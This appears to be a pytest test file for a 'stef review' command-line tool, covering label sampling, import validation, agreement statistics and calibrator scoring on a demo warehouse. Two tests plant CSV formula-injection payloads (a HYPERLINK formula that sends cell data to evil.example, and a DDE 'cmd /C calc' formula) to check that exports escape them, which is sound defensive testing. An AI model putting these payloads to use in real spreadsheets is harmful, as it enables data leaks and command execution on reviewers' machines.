"""`stef review ...` end to end on the demo warehouse (issue 18): sample, label with the bundled
ground truth, import twice, agreement figures checked against our own computation, calibrate,
then score with the calibrator (`stef evaluate --calibrator`, the nightly flow)."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from stef.models import EVALUATOR_VERSION
from tasks.drift_checks import operating_points_for
from tasks.report import reviewer_agreement
from tests.flows.cli.cli_support import invoke, read_jsonl
from warehouse import connect


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory, prefect_harness: None) -> Path:
    """A finished `stef demo` workdir (stef-demo.duckdb, stef-demo/logs, stef-demo/labels.jsonl)."""
    import flows.nightly  # noqa: F401  (Prefect's console logging bound before CliRunner swaps streams)

    workdir = tmp_path_factory.mktemp("review-demo")
    result = invoke("demo", "--workdir", str(workdir), "--quiet")
    assert result.exit_code == 0, result.output
    return workdir


@pytest.fixture
def workdir(demo: Path, tmp_path: Path) -> Path:
    """A copy of the demo workdir (each test may write to its warehouse)."""
    shutil.copy(demo / "stef-demo.duckdb", tmp_path / "stef-demo.duckdb")
    shutil.copytree(demo / "stef-demo", tmp_path / "stef-demo")
    return tmp_path


def _truth(workdir: Path) -> dict[str, bool]:
    return {row["run_id"]: bool(row["label"]) for row in read_jsonl(workdir / "stef-demo" / "labels.jsonl")}


def _fill(path: Path, truth: dict[str, bool]) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["label"] = "correct" if truth[row["run_id"]] else "incorrect"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return rows


@pytest.mark.flow
def test_sample_label_import_stats_calibrate_evaluate(workdir: Path) -> None:
    warehouse = str(workdir / "stef-demo.duckdb")
    review = workdir / "review.csv"
    result = invoke(
        "review",
        "sample",
        "--warehouse",
        warehouse,
        "--n",
        "200",
        "--strategy",
        "random",
        "--seed",
        "7",
        "--out",
        str(review),
    )
    assert result.exit_code == 0, result.output
    again = workdir / "again.csv"
    assert (
        invoke("review", "sample", "--warehouse", warehouse, "--n", "200", "--seed", "7", "--out", str(again)).exit_code
        == 0
    )
    assert again.read_text(encoding="utf-8") == review.read_text(encoding="utf-8")  # the seed fixes the sample
    rows = _fill(review, _truth(workdir))
    assert len(rows) == 200 and len({r["run_id"] for r in rows}) == 200

    first = invoke("review", "import", str(review), "--warehouse", warehouse)
    assert first.exit_code == 0, first.output
    assert "200 labelled rows: 200 new, 0 replaced, 0 unchanged" in first.stdout
    second = invoke("review", "import", str(review), "--warehouse", warehouse)
    assert "200 labelled rows: 0 new, 0 replaced, 200 unchanged" in second.stdout

    stats = invoke("review", "stats", "--warehouse", warehouse, "--json")
    assert stats.exit_code == 0, stats.output
    figures = json.loads(stats.stdout)
    called = [r["score"] != "" and float(r["score"]) >= 75 for r in rows]
    labels = [r["label"] == "correct" for r in rows]
    accuracy = sum(c == y for c, y in zip(called, labels, strict=True)) / 200
    p_called, p_label = sum(called) / 200, sum(labels) / 200
    chance = p_called * p_label + (1 - p_called) * (1 - p_label)
    assert figures["n"] == 200
    assert figures["accuracy"] == pytest.approx(accuracy, abs=1e-4)
    assert figures["kappa"] == pytest.approx((accuracy - chance) / (1 - chance), abs=1e-4)
    assert figures["base_rate_incorrect"] == pytest.approx(1 - p_label, abs=1e-4)
    assert 0.5 < figures["auroc"] <= 1.0 and 0.0 <= figures["ece"] <= 1.0
    assert figures["ci"]["accuracy"][0] <= accuracy <= figures["ci"]["accuracy"][1]
    assert [v["evaluator_version"] for v in figures["by_evaluator_version"]] == [rows[0]["evaluator_version"]]

    # the weekly report shows the agreement; the error-rate estimates use the labels' operating point
    report = invoke("report", "--warehouse", warehouse, "--week", "2026-W48", "--out", str(workdir / "r.html"))
    assert report.exit_code == 0, report.output
    section = (workdir / "r.md").read_text(encoding="utf-8").split("## Judge vs reviewers\n\n", 1)[1].split("\n## ")[0]
    assert section.startswith(
        "200 reviewed answers were scored by this evaluator version (200 answers reviewed in all)."
    )
    assert f"agreed with the label on {100 * accuracy:.0f} % [" in section
    assert f"Reviewers found {100 * (1 - p_label):.0f} % [" in section
    assert "uses the operating characteristics measured on these labels for symbolic" in section
    assert "Judge vs reviewers" in (workdir / "r.html").read_text(encoding="utf-8")
    with connect(warehouse, read_only=True) as conn:
        points = operating_points_for(conn, rows[0]["evaluator_version"])
        shown = reviewer_agreement(conn, rows[0]["evaluator_version"], points)
    # the report's intervals are those of `stef review stats` (it drew 500 resamples, the command 1,000)
    assert shown is not None and set(shown["ci"]) == set(figures["ci"])
    for name, (low, high) in figures["ci"].items():
        assert tuple(shown["ci"][name]) == (pytest.approx(low, abs=1e-4), pytest.approx(high, abs=1e-4)), name
    reviewed = [point for point in points.values() if point.source.startswith("reviewer labels")]
    scored = [(float(r["p_correct"]), r["label"] == "correct") for r in rows if r["p_correct"] != ""]
    mean_correct = sum(p for p, y in scored if y) / sum(1 for _, y in scored if y)
    assert len(reviewed) == 1 and reviewed[0].mean_p_correct == pytest.approx(mean_correct, abs=1e-6)

    calib = workdir / "calib.json"
    fitted = invoke("review", "calibrate", "--warehouse", warehouse, "--out", str(calib))
    assert fitted.exit_code == 0, fitted.output
    assert "refit on the reviews" in fitted.stdout and "stored for every app" in fitted.stdout
    artifact = json.loads(calib.read_text(encoding="utf-8"))
    assert artifact["features"][-1] == "shipped:logit" and artifact["metadata"]["labels"]["n"] <= 200

    day = workdir / "stef-demo" / "logs" / "2026-11-26"
    plain, refit = workdir / "plain.jsonl", workdir / "refit.jsonl"
    assert invoke("evaluate", str(day), "--out", str(plain)).exit_code == 0
    scored = invoke("evaluate", str(day), "--calibrator", str(calib), "--out", str(refit))
    assert scored.exit_code == 0, scored.output
    before, after = read_jsonl(plain), read_jsonl(refit)
    assert [r["run_id"] for r in before] == [r["run_id"] for r in after]
    assert all("+calib=" in r["evaluator_version"] for r in after if r["status"] == "evaluated")
    assert any(
        a["p_correct"] != b["p_correct"] for a, b in zip(after, before, strict=True) if a["p_correct"] is not None
    )

    # the nightly flow applies the stored calibrator from its next run: a new evaluator version
    night = invoke(
        "nightly", "--date", "2026-11-26", "--logs-root", str(workdir / "stef-demo" / "logs"), "--warehouse", warehouse
    )
    assert night.exit_code == 0, night.output
    with connect(warehouse, read_only=True) as conn:
        versions = dict(
            conn.execute(
                "SELECT evaluator_version, count(*) FROM evaluations WHERE log_date = DATE '2026-11-26' GROUP BY 1"
            ).fetchall()
        )
    calibrated = [v for v in versions if "+calib=" in v]
    assert len(calibrated) == 1 and versions[calibrated[0]] == 120
    assert calibrated[0].endswith(after[0]["evaluator_version"].split("+calib=")[1])  # the same calibrator

    # the calibrated version's error-rate estimate uses the refit's nested-CV operating point, not
    # the labels it was fitted on; an older calibrated version keeps its point after a new refit
    with connect(warehouse, read_only=True) as conn:
        points = operating_points_for(conn, calibrated[0])
    assert {point.source.split(" (")[0] for point in points.values()} == {
        f"nested cross-validation of {artifact['version']}"
    }
    figures = artifact["metadata"]["quantification"]
    assert points["symbolic"].mean_p_correct == figures["mean_p_correct"]
    refit_again = invoke("review", "calibrate", "--warehouse", warehouse)
    assert refit_again.exit_code == 0, refit_again.output
    with connect(warehouse, read_only=True) as conn:
        assert operating_points_for(conn, calibrated[0]) == points


def test_a_bad_file_is_refused_whole_naming_its_lines(workdir: Path) -> None:
    warehouse = str(workdir / "stef-demo.duckdb")
    review = workdir / "review.csv"
    assert (
        invoke("review", "sample", "--warehouse", warehouse, "--n", "5", "--seed", "1", "--out", str(review)).exit_code
        == 0
    )
    rows = _fill(review, _truth(workdir))
    rows[1]["label"] = "looks fine"
    rows[3]["run_id"] = "no-such-run"
    with review.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = invoke("review", "import", str(review), "--warehouse", warehouse)
    assert result.exit_code == 2
    assert "line 3: label 'looks fine' is not 'correct' or 'incorrect'" in result.output
    rows[1]["label"] = "correct"
    with review.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = invoke("review", "import", str(review), "--warehouse", warehouse)
    assert (
        result.exit_code == 2
        and "line 5: run_id 'no-such-run' is not an answer stored in the warehouse" in result.output
    )
    stats = json.loads(invoke("review", "stats", "--warehouse", warehouse, "--json").stdout)
    assert stats["n"] == 0  # nothing half-imported

    refused = invoke("review", "calibrate", "--warehouse", warehouse)
    assert refused.exit_code == 2 and "needs at least 100" in refused.output


def test_a_newer_label_replaces_the_older_one(workdir: Path) -> None:
    warehouse = str(workdir / "stef-demo.duckdb")
    path = workdir / "labels.jsonl"
    run_id = next(iter(_truth(workdir)))
    path.write_text(
        json.dumps({"run_id": run_id, "label": "correct", "reviewed_at": "2026-12-01T10:00:00"}) + "\n",
        encoding="utf-8",
    )
    assert "1 new" in invoke("review", "import", str(path), "--warehouse", warehouse, "--reviewer", "ana").stdout
    older = {"run_id": run_id, "label": "incorrect", "reviewed_at": "2026-11-30T10:00:00"}
    path.write_text(json.dumps(older) + "\n", encoding="utf-8")
    assert "1 unchanged" in invoke("review", "import", str(path), "--warehouse", warehouse, "--reviewer", "ana").stdout
    newer = {**older, "reviewed_at": "2026-12-02T10:00:00", "error_category": "Value-Related Errors"}
    path.write_text(json.dumps(newer) + "\n", encoding="utf-8")
    assert "1 replaced" in invoke("review", "import", str(path), "--warehouse", warehouse, "--reviewer", "ana").stdout
    stats = json.loads(invoke("review", "stats", "--warehouse", warehouse, "--json").stdout)
    assert stats["n"] == 1 and stats["base_rate_incorrect"] == 1.0


def test_evaluate_refuses_a_file_that_is_not_a_deployment_calibrator(tmp_path: Path) -> None:
    from importlib import resources

    shipped = tmp_path / "shipped.json"
    shipped.write_text(
        resources.files("stef.pipeline.judge.calibrators").joinpath("symbolic-v2.json").read_text(encoding="utf-8"),
        encoding="utf-8",
    )
    logs = tmp_path / "logs.jsonl"
    logs.write_text(json.dumps({"run_id": "r1", "question": "How many?", "sql": "SELECT 1"}) + "\n", encoding="utf-8")
    result = invoke("evaluate", str(logs), "--calibrator", str(shipped), "--out", str(tmp_path / "o.jsonl"))
    assert result.exit_code == 2 and "is not a deployment calibrator" in result.output
    broken = tmp_path / "broken.json"
    broken.write_text("{not json", encoding="utf-8")
    result = invoke("evaluate", str(logs), "--calibrator", str(broken), "--out", str(tmp_path / "o.jsonl"))
    assert result.exit_code == 2 and "not a calibrator artifact" in result.output


def test_uncertain_sample_holds_the_answers_nearest_one_half(workdir: Path) -> None:
    """The demo warehouse stores dozens of answers within 0.05 of P(correct) 0.5: an uncertain sample
    of 10 takes 10 of the nearest (it took answers at 0.55–0.70 when it only weighted them)."""
    warehouse = str(workdir / "stef-demo.duckdb")
    out = workdir / "u.csv"
    sampled = invoke(
        "review", "sample", "--warehouse", warehouse, "--n", "10", "--strategy", "uncertain", "--out", str(out),
    )  # fmt: skip
    assert sampled.exit_code == 0, sampled.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    with connect(warehouse, read_only=True) as conn:
        distances = [
            float(d)
            for (d,) in conn.execute(
                "SELECT abs(p_correct - 0.5) FROM evaluations WHERE evaluator_version = ? AND p_correct IS NOT NULL "
                "ORDER BY 1 LIMIT 10",
                [rows[0]["evaluator_version"]],
            ).fetchall()
        ]
    assert len(rows) == 10 and {row["sample_strategy"] for row in rows} == {"uncertain"}
    assert sorted(round(abs(float(row["p_correct"]) - 0.5), 6) for row in rows) == [round(d, 6) for d in distances]
    assert max(distances) <= 0.05


def test_labels_of_an_uncertain_sample_do_not_replace_the_operating_point(workdir: Path) -> None:
    warehouse = str(workdir / "stef-demo.duckdb")
    review = workdir / "uncertain.csv"
    sampled = invoke(
        "review", "sample", "--warehouse", warehouse, "--n", "150", "--strategy", "uncertain", "--seed", "3",
        "--out", str(review),
    )  # fmt: skip
    assert sampled.exit_code == 0, sampled.output
    rows = _fill(review, _truth(workdir))
    assert {row["sample_strategy"] for row in rows} == {"uncertain"}
    assert invoke("review", "import", str(review), "--warehouse", warehouse).exit_code == 0
    with connect(warehouse, read_only=True) as conn:
        points = operating_points_for(conn, rows[0]["evaluator_version"])
    assert not [point for point in points.values() if point.source.startswith("reviewer labels")]
    report = invoke("report", "--warehouse", warehouse, "--week", "2026-W48", "--out", str(workdir / "r.html"))
    assert report.exit_code == 0, report.output
    section = (workdir / "r.md").read_text(encoding="utf-8").split("## Judge vs reviewers\n\n", 1)[1]
    assert section.startswith("150 reviewed answers") and "from random samples" in section.split("\n## ")[0]


def test_labels_that_contradict_the_judge_leave_the_shipped_operating_point(workdir: Path) -> None:
    """Reviewers who call correct what the judge found wrong (and the reverse) give no operating
    point (a ≤ b): drift and the report keep the shipped one instead of failing."""
    warehouse = str(workdir / "stef-demo.duckdb")
    review = workdir / "contrary.csv"
    sampled = invoke("review", "sample", "--warehouse", warehouse, "--n", "100", "--seed", "5", "--out", str(review))
    assert sampled.exit_code == 0, sampled.output
    with review.open(encoding="utf-8", newline="") as handle:
        p_correct = {row["run_id"]: float(row["p_correct"] or 0.0) for row in csv.DictReader(handle)}
    rows = _fill(review, {run_id: p < 0.5 for run_id, p in p_correct.items()})
    imported = invoke("review", "import", str(review), "--warehouse", warehouse, "--skip-unknown")
    assert imported.exit_code == 0, imported.output
    with connect(warehouse, read_only=True) as conn:
        points = operating_points_for(conn, rows[0]["evaluator_version"])
    assert points and not [point for point in points.values() if point.source.startswith("reviewer labels")]
    drift = invoke("drift", "--agent", "bird-analyst", "--warehouse", warehouse, "--no-store", "--json")
    assert drift.exit_code == 0, drift.output
    assert json.loads(drift.stdout)["error_rate_method"]
    report = invoke("report", "--warehouse", warehouse, "--week", "2026-W48", "--out", str(workdir / "r.html"))
    assert report.exit_code == 0, report.output


def test_the_demo_labels_name_the_quarantined_line_and_import_with_skip_unknown(workdir: Path) -> None:
    warehouse = str(workdir / "stef-demo.duckdb")
    labels = workdir / "stef-demo" / "labels.jsonl"
    refused = invoke("review", "import", str(labels), "--warehouse", warehouse)
    assert refused.exit_code == 2
    assert "is a quarantined log line (" in refused.output and "--skip-unknown" in refused.output
    imported = invoke("review", "import", str(labels), "--warehouse", warehouse, "--skip-unknown")
    assert imported.exit_code == 0, imported.output
    stored = len(read_jsonl(labels)) - 1
    assert f"{stored + 1} labelled rows: {stored} new" in imported.stdout
    assert "1 rows of answers not stored left out (--skip-unknown)" in imported.stdout


def test_import_names_the_rows_of_the_file_and_of_the_warehouse_at_once(workdir: Path) -> None:
    """A bad label (line 3) and a run id the warehouse does not hold (line 2) are both named, in
    line order, in one error: fixing one does not reveal the other on the next try."""
    warehouse = str(workdir / "stef-demo.duckdb")
    stored = sorted(_truth(workdir))[0]
    labels = workdir / "labels.csv"
    labels.write_text(f"run_id,label\nnope-1,correct\n{stored},maybe\n", encoding="utf-8")
    result = invoke("review", "import", str(labels), "--warehouse", warehouse)
    assert result.exit_code == 2
    message = " ".join(result.stderr.split())
    assert "2 bad row(s), nothing imported: line 2: run_id 'nope-1' is not an answer stored" in message
    assert "; line 3: label 'maybe' is not 'correct' or 'incorrect'" in message


def test_stats_of_an_app_without_reviews_names_the_filter(workdir: Path) -> None:
    result = invoke("review", "stats", "--warehouse", str(workdir / "stef-demo.duckdb"), "--app", "nosuch")
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "no reviews of app 'nosuch'"


def test_a_mistyped_warehouse_is_an_error_and_no_file_is_created(tmp_path: Path) -> None:
    labels = tmp_path / "labels.csv"
    labels.write_text("run_id,label\nr1,correct\n", encoding="utf-8")
    missing = tmp_path / "typo.duckdb"
    result = invoke("review", "import", str(labels), "--warehouse", str(missing))
    assert result.exit_code == 2 and "does not exist" in result.output and not missing.exists()


def test_sample_csv_cells_that_look_like_formulas_are_written_as_text(workdir: Path) -> None:
    warehouse = str(workdir / "stef-demo.duckdb")
    with connect(warehouse) as conn:
        run_id = conn.execute("SELECT run_id FROM agent_runs ORDER BY run_id LIMIT 1").fetchall()[0][0]
        conn.execute(
            'UPDATE agent_runs SET question = \'=HYPERLINK("http://evil.example/"&B2,"open")\' WHERE run_id = ?',
            [run_id],
        )
    review = workdir / "all.csv"
    assert invoke("review", "sample", "--warehouse", warehouse, "--n", "1000", "--out", str(review)).exit_code == 0
    with review.open(encoding="utf-8", newline="") as handle:
        rows = {row["run_id"]: row for row in csv.DictReader(handle)}
    assert rows[run_id]["question"] == '\'=HYPERLINK("http://evil.example/"&B2,"open")'
    assert {row["sample_strategy"] for row in rows.values()} == {"all"}


def _label_all(path: Path, label: str) -> list[dict[str, str]]:
    """Fill every row's label of a sampled CSV with ``label`` (read and written as the csv module
    does, so a cell's leading ``'`` stays as `stef review sample` wrote it)."""
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["label"] = label
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return rows


def _stored_reviews(warehouse: str) -> dict[str, tuple[str, str]]:
    with connect(warehouse, read_only=True) as conn:
        rows = conn.execute("SELECT run_id, reviewer, label FROM reviews").fetchall()
    return {run_id: (reviewer, label) for run_id, reviewer, label in rows}


def test_a_sample_holding_sql_longer_than_the_csv_default_field_limit_imports(workdir: Path) -> None:
    """SQL may be 200,000 characters; Python's csv reads at most 131,072 per field by default."""
    warehouse = str(workdir / "stef-demo.duckdb")
    long_sql = "SELECT 1 -- " + "x" * 190_000
    with connect(warehouse) as conn:
        run_id = conn.execute("SELECT run_id FROM agent_runs ORDER BY run_id LIMIT 1").fetchall()[0][0]
        conn.execute("UPDATE agent_runs SET sql = ? WHERE run_id = ?", [long_sql, run_id])
    review = workdir / "all.csv"
    assert invoke("review", "sample", "--warehouse", warehouse, "--n", "1000", "--out", str(review)).exit_code == 0
    text = review.read_text(encoding="utf-8")
    assert f",{long_sql}," in text  # as written: the test's own csv reader would refuse it
    rows = text.count(",all,,,\n")
    review.write_text(text.replace(",all,,,\n", ",all,incorrect,,\n"), encoding="utf-8")
    result = invoke("review", "import", str(review), "--warehouse", warehouse, "--reviewer", "ana")
    assert result.exit_code == 0, result.output
    assert f"{rows} labelled rows: {rows} new, 0 replaced, 0 unchanged; 0 rows without a label" in result.stdout
    stored = _stored_reviews(warehouse)
    assert len(stored) == rows > 300 and stored[run_id] == ("ana", "incorrect")


def test_run_ids_that_look_like_formulas_round_trip_from_sample_to_import(workdir: Path) -> None:
    """`review sample` writes `'=…` for a cell starting `=` (and `''=…` for one starting `'=`);
    `review import` takes exactly that one `'` off again, so every run id is found."""
    warehouse = str(workdir / "stef-demo.duckdb")
    renamed = ["=cmd|' /C calc'!A0-0", "'=already quoted", "-lead", "''+two quotes", "'plain quote"]
    with connect(warehouse) as conn:
        old_ids = [row[0] for row in conn.execute("SELECT run_id FROM agent_runs ORDER BY run_id LIMIT 5").fetchall()]
        for old, new in zip(old_ids, renamed, strict=True):
            conn.execute("UPDATE agent_runs SET run_id = ? WHERE run_id = ?", [new, old])
            conn.execute("UPDATE evaluations SET run_id = ? WHERE run_id = ?", [new, old])
    review = workdir / "all.csv"
    assert invoke("review", "sample", "--warehouse", warehouse, "--n", "1000", "--out", str(review)).exit_code == 0
    rows = _label_all(review, "correct")
    written = {row["run_id"] for row in rows}
    assert {"'=cmd|' /C calc'!A0-0", "''=already quoted", "'-lead", "'''+two quotes", "'plain quote"} <= written
    result = invoke("review", "import", str(review), "--warehouse", warehouse, "--reviewer", "ana", "--skip-unknown")
    assert result.exit_code == 0, result.output
    assert f"{len(rows)} labelled rows: {len(rows)} new, 0 replaced, 0 unchanged" in result.stdout
    assert "left out (--skip-unknown)" not in result.stdout
    stored = _stored_reviews(warehouse)
    assert len(stored) == len(rows)
    assert {run_id: stored[run_id] for run_id in renamed} == dict.fromkeys(renamed, ("ana", "correct"))


def test_a_csv_the_reader_cannot_parse_is_a_one_line_error_naming_the_line(
    workdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import stef.monitor.review

    monkeypatch.setattr(stef.monitor.review, "CSV_FIELD_LIMIT", 20)
    warehouse = str(workdir / "stef-demo.duckdb")
    labels = workdir / "labels.csv"
    labels.write_text("run_id,label,note\nr1,correct,short\nr2,correct,a note longer than twenty\n", encoding="utf-8")
    result = invoke("review", "import", str(labels), "--warehouse", warehouse)
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert " ".join(result.stderr.split()) == (
        f"error: {labels}: 2 bad row(s), nothing imported: line 2: run_id 'r1' is not an answer stored in the "
        "warehouse (--skip-unknown leaves such rows out); line 3: not readable CSV (field larger than field limit (20))"
    )  # every bad line, the unreadable one with the others
    assert _stored_reviews(warehouse) == {}


def test_a_malformed_label_studio_export_names_each_bad_task(workdir: Path) -> None:
    warehouse = str(workdir / "stef-demo.duckdb")
    run_ids = sorted(_truth(workdir))[:2]
    export = workdir / "export.json"
    tasks = [
        {"data": "x", "annotations": "y"},
        {"id": 5, "data": {"run_id": run_ids[0]}, "annotations": [{"result": [{"from_name": "label", "value": [1]}]}]},
        {
            "id": 6,
            "data": {"run_id": run_ids[1]},
            "annotations": [{"result": [{"from_name": "label", "value": {"choices": "correct"}}]}],
        },
    ]
    export.write_text(json.dumps(tasks), encoding="utf-8")
    result = invoke("review", "import", str(export), "--warehouse", warehouse)
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert " ".join(result.stderr.split()) == (
        f"error: {export}: 3 bad row(s), nothing imported: line 1: task 1: data is a string, not an object; "
        "line 2: task id 5: annotations[0].result[0].value (label) is a list, not an object; "
        "line 3: task id 6: annotations[0].result[0].value.choices (label) is a string, not a list of one text"
    )
    assert _stored_reviews(warehouse) == {}


def test_sample_with_its_end_before_its_start_says_so(workdir: Path) -> None:
    review = workdir / "never.csv"
    result = invoke(
        "review", "sample", "--warehouse", str(workdir / "stef-demo.duckdb"),
        "--start", "2026-12-01", "--end", "2026-11-01", "--out", str(review),
    )  # fmt: skip
    assert result.exit_code == 2
    assert result.stderr.strip() == "error: review sample end 2026-11-01 is before its start 2026-12-01"
    assert not review.exists()


def test_stats_show_a_kappa_of_zero_without_a_minus_sign(workdir: Path) -> None:
    """Three answers STEF calls incorrect, two of them labelled correct: κ computes to -8e-17."""
    warehouse = str(workdir / "stef-demo.duckdb")
    with connect(warehouse, read_only=True) as conn:
        low = [
            row[0]
            for row in conn.execute(
                "SELECT run_id FROM evaluations WHERE score < 75 ORDER BY run_id LIMIT 3"
            ).fetchall()
        ]
    labels = workdir / "labels.csv"
    labels.write_text(f"run_id,label\n{low[0]},correct\n{low[1]},correct\n{low[2]},incorrect\n", encoding="utf-8")
    assert invoke("review", "import", str(labels), "--warehouse", warehouse, "--reviewer", "ana").exit_code == 0
    figures = json.loads(invoke("review", "stats", "--warehouse", warehouse, "--json").stdout)
    assert figures["n"] == 3 and figures["accuracy"] == 0.3333
    assert figures["kappa"] == 0.0 and str(figures["kappa"]) == "0.0"
    table = invoke("review", "stats", "--warehouse", warehouse)
    assert table.exit_code == 0, table.output
    (line,) = [line for line in table.stdout.splitlines() if line.strip().startswith("all reviewed answers")]
    assert "-0.0" not in table.stdout and " 0.000 [" in line


def test_an_export_of_two_annotators_imported_with_reviewer_names_the_lines(workdir: Path) -> None:
    """``--reviewer`` makes both annotators' labels of an answer one reviewer's: two rows of one key,
    which the import named as a DuckDB "transaction is aborted" error instead of the file's lines."""
    warehouse = str(workdir / "stef-demo.duckdb")
    run_id = sorted(_truth(workdir))[0]
    export = workdir / "export.json"
    annotations = [
        {
            "completed_by": {"email": who},
            "updated_at": at,
            "result": [{"from_name": "label", "value": {"choices": [c]}}],
        }
        for who, at, c in (("a@x", "2026-12-01T10:00:00Z", "correct"), ("b@x", "2026-12-01T11:00:00Z", "incorrect"))
    ]
    export.write_text(json.dumps([{"id": 9, "data": {"run_id": run_id}, "annotations": annotations}]), encoding="utf-8")
    result = invoke("review", "import", str(export), "--warehouse", warehouse, "--reviewer", "ana")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert " ".join(result.stderr.split()) == (
        f"error: {export}: 1 bad row(s), nothing imported: line 1: run_id {run_id!r} is labelled twice by 'ana' "
        "(first at line 1); --reviewer names every row's reviewer: leave it out to keep the file's reviewers"
    )
    assert _stored_reviews(warehouse) == {}
    kept = invoke("review", "import", str(export), "--warehouse", warehouse)
    assert kept.exit_code == 0 and "2 new" in kept.stdout
    with connect(warehouse, read_only=True) as conn:
        stored = conn.execute("SELECT reviewer, label FROM reviews ORDER BY reviewer").fetchall()
    assert stored == [("a@x", "correct"), ("b@x", "incorrect")]


def test_an_auroc_of_labels_of_one_class_is_called_undefined(workdir: Path) -> None:
    """Every label "correct": no wrong answer to rank against, so no AUROC; stats and the report
    printed a bare "–", which reads as "not computed" rather than "undefined for these labels"."""
    from stef.monitor.rendering import render_markdown
    from tasks.report import collect

    warehouse = str(workdir / "stef-demo.duckdb")
    with connect(warehouse, read_only=True) as conn:
        scored = [
            row[0]
            for row in conn.execute(
                "SELECT run_id FROM evaluations WHERE status = 'evaluated' ORDER BY run_id LIMIT 4"
            ).fetchall()
        ]
    labels = workdir / "labels.csv"
    labels.write_text("run_id,label\n" + "".join(f"{run_id},correct\n" for run_id in scored), encoding="utf-8")
    assert invoke("review", "import", str(labels), "--warehouse", warehouse, "--reviewer", "ana").exit_code == 0
    figures = json.loads(invoke("review", "stats", "--warehouse", warehouse, "--json").stdout)
    assert (figures["n"], figures["base_rate_incorrect"], figures["auroc"]) == (4, 0.0, None)
    assert figures["auroc_undefined"] == "every label is correct" and "auroc" not in figures["ci"]
    # κ likewise: with every label correct it is 0 whatever STEF calls ("0.00 [0.00–0.00]" said "no agreement")
    assert figures["kappa"] is None and figures["kappa_undefined"] == "every label is correct"
    assert "kappa" not in figures["ci"]
    table = invoke("review", "stats", "--warehouse", warehouse)
    shown = " ".join(table.stdout.split())
    assert "AUROC of P(correct) undefined (every label is correct);" in shown
    assert "Cohen's κ undefined (every label is correct: κ is 0 whatever STEF calls)" in shown
    with connect(warehouse, read_only=True) as conn:
        week = collect(conn, "demo", "2026-W48")
    markdown = render_markdown(week)
    assert "AUROC of P(correct) undefined (every label is correct), ECE" in markdown
    assert "(Cohen's κ undefined: every label is correct)" in markdown


def test_stats_of_a_calibrated_version_use_only_the_labels_its_calibrator_was_not_fitted_on(workdir: Path) -> None:
    """A calibrator is fitted on the demo's labels but 40 of Thursday's; Thursday is scored again
    with it (a +calib version), then the 40 are imported. The +calib version's agreement was
    measured on all 120 labelled Thursday answers, 80 of them labels it was fitted on; the report
    already used only the labels imported after the calibrator."""
    warehouse = str(workdir / "stef-demo.duckdb")
    logs = str(workdir / "stef-demo" / "logs")
    rows = [row for row in read_jsonl(workdir / "stef-demo" / "labels.jsonl") if row["run_id"] != "nl2sql-bugs-901"]
    later = {row["run_id"] for row in rows if row["log_date"] == "2026-11-26"}
    later = set(sorted(later)[:40])
    fit_on, held_out = workdir / "fit.jsonl", workdir / "held_out.jsonl"
    for path, keep in ((fit_on, False), (held_out, True)):
        chosen = [row for row in rows if (row["run_id"] in later) == keep]
        path.write_text("".join(json.dumps(row) + "\n" for row in chosen), encoding="utf-8")
    assert invoke("review", "import", str(fit_on), "--warehouse", warehouse).exit_code == 0
    schemas = str(workdir / "stef-demo" / "schemas")
    fitted = invoke("review", "calibrate", "--warehouse", warehouse, "--schema-dir", schemas)
    assert fitted.exit_code == 0, fitted.output
    assert invoke("nightly", "--date", "2026-11-26", "--logs-root", logs, "--warehouse", warehouse).exit_code == 0
    before = json.loads(invoke("review", "stats", "--warehouse", warehouse, "--json").stdout)
    calibrated = [v for v in before["by_evaluator_version"] if "+calib=" in v["evaluator_version"]]
    assert [(v["n"], v["accuracy"]) for v in calibrated] == [(0, None)]  # its 80 labels of Thursday fitted it
    assert calibrated[0]["held_out_only"] is True
    assert invoke("review", "import", str(held_out), "--warehouse", warehouse, "--reviewer", "bo").exit_code == 0
    figures = json.loads(invoke("review", "stats", "--warehouse", warehouse, "--json").stdout)
    version = calibrated[0]["evaluator_version"]
    entry = next(v for v in figures["by_evaluator_version"] if v["evaluator_version"] == version)
    with connect(warehouse, read_only=True) as conn:
        reference = conn.execute(  # the 40 held-out labels against the +calib evaluations
            """
            SELECT count(*), avg(CASE WHEN (v.label = 'correct') = (e.status = 'evaluated' AND e.score >= 75)
                                      THEN 1.0 ELSE 0.0 END)
            FROM reviews AS v JOIN evaluations AS e USING (run_id)
            WHERE v.reviewer = 'bo' AND e.evaluator_version = $version
            """,
            {"version": version},
        ).fetchall()[0]
    assert reference[0] == 40
    assert (entry["n"], entry["held_out_only"]) == (40, True)
    assert entry["accuracy"] == pytest.approx(reference[1], abs=1e-4)
    shipped = next(v for v in figures["by_evaluator_version"] if "+calib=" not in v["evaluator_version"])
    assert (shipped["n"], shipped["held_out_only"]) == (359, False)


def test_the_report_drift_sentences_use_the_labels_imported_after_the_checks(workdir: Path) -> None:
    """The demo's drift checks were stored before any label; 200 random labels then move the
    operating point: the report's headline estimated v1.5.0's wrong answers at 62 % while its drift
    sentence, read from the stored check, still said 72 % (and so did the drift column)."""
    from tasks.report import collect

    warehouse = str(workdir / "stef-demo.duckdb")
    review = workdir / "random.csv"
    sampled = invoke(
        "review", "sample", "--warehouse", warehouse, "--n", "200", "--seed", "7", "--out", str(review)
    )  # fmt: skip
    assert sampled.exit_code == 0, sampled.output
    _fill(review, _truth(workdir))
    assert invoke("review", "import", str(review), "--warehouse", warehouse).exit_code == 0
